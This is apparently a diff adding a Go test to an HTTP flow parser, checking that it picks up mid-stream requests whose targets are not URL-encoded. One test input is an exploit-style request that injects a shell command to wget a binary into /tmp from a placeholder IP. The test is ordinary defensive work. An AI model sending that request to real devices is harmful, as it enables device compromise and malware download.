@@ -102,3 +102,22 @@ func lose(t *rapid.T, pushes []push, dir event.Direction) int {
 	}
 	return hit
 }
+
+// TestMidstreamTargetWithSpaces picks a flow up at a request whose target was
+// not encoded, as exploit tools send it.
+func TestMidstreamTargetWithSpaces(t *testing.T) {
+	for in, want := range map[string]int{
+		"GET /shell?cd+/tmp;wget+ http://192.0.2.1/arm HTTP/1.1\r\nHost: x\r\n\r\n": 1,
+		"GET the book HTTP/1.1\r\nHost: x\r\n\r\n":                                  0,
+		"SEEN /a b HTTP/1.1\r\nHost: x\r\n\r\n":                                     0,
+	} {
+		var led event.Ledger
+		n := 0
+		conn := NewConn(nil, nil, &event.Flow{Flags: event.FlagMidstream}, &led, func(*event.Call, event.Stamp) { n++ })
+		conn.Data(up, []byte(in), event.Stamp{})
+		conn.Close(event.Stamp{})
+		if n != want {
+			t.Errorf("%q: %d calls, want %d", in, n, want)
+		}
+	}
+}
